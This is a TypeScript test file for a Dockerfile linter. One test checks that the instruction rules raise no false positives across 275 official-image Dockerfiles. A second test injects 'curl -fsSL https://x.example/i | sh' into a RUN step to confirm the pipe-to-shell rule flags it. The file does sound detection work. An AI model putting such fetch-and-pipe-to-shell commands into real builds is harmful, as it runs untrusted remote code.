import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import type { CheckContext } from '../../src/checks/context.js';
import { runImageChecks } from '../../src/checks/run-checks.js';
import { finalStage, parseDockerfile } from '../../src/dockerfile/parse.js';
import { emptyAllowlist, emptyImageRules } from '../../src/policy/merge.js';
import { makeFacts } from '../support/facts.js';

/**
 * False positives, measured: the official images' Dockerfiles (test/fixtures/dockerfile-parser/docker-library,
 * 275 files: apt-get update && install, curl | tar, gpg, heredoc-free but long RUN scripts) use none of the patterns
 * the instruction rules report, so every finding there would be a false positive.
 */

const ROOT = path.resolve(import.meta.dirname, '../fixtures/dockerfile-parser/docker-library');

function dockerfiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory()) return dockerfiles(full);
    return entry.name === 'Dockerfile' ? [full] : [];
  });
}

test('the Dockerfile instruction rules report nothing on 275 official-image Dockerfiles', () => {
  const files = dockerfiles(ROOT);
  expect(files).toHaveLength(275);
  const findings = files.flatMap((file) => {
    const dockerfile = parseDockerfile(readFileSync(file, 'utf8'), { path: path.relative(ROOT, file) });
    const stage = finalStage(dockerfile);
    const context: CheckContext = {
      image: makeFacts(),
      imageName: 'corpus',
      imageRepository: 'corpus',
      rules: {
        ...emptyImageRules(),
        dockerfile: { addInsteadOfCopy: true, pipeToShell: true, updateAlone: true, upgrade: true },
      },
      dockerfile,
      stage,
      layerOrigins: [],
      imageLocation: { kind: 'image', image: 'corpus' },
      allow: emptyAllowlist(),
      now: new Date('2026-12-07T00:00:00Z'),
    };
    return runImageChecks(context, (_rule, severity) => severity)
      .filter((finding) => finding.ruleId.startsWith('dockerfile/'))
      .map((finding) => `${finding.ruleId} ${String(finding.properties?.subject)}`);
  });
  expect(findings).toEqual([]);
});

test('on the same files, a pipe into sh added to a RUN is found (the rules do read these scripts)', () => {
  const file = path.join(ROOT, 'python/3.13/bookworm/Dockerfile');
  const text = readFileSync(file, 'utf8').replace(
    /\nRUN set -eux; \\\n/,
    '\nRUN set -eux; curl -fsSL https://x.example/i | sh; \\\n',
  );
  expect(text).toContain('curl -fsSL https://x.example/i | sh');
  const dockerfile = parseDockerfile(text, { path: 'python/Dockerfile' });
  const context: CheckContext = {
    image: makeFacts(),
    imageName: 'corpus',
    imageRepository: 'corpus',
    rules: { ...emptyImageRules(), dockerfile: { pipeToShell: true } },
    dockerfile,
    stage: finalStage(dockerfile),
    layerOrigins: [],
    imageLocation: { kind: 'image', image: 'corpus' },
    allow: emptyAllowlist(),
    now: new Date('2026-12-07T00:00:00Z'),
  };
  expect(runImageChecks(context, (_rule, severity) => severity).map((finding) => finding.ruleId)).toEqual([
    'dockerfile/pipe-to-shell',
  ]);
});
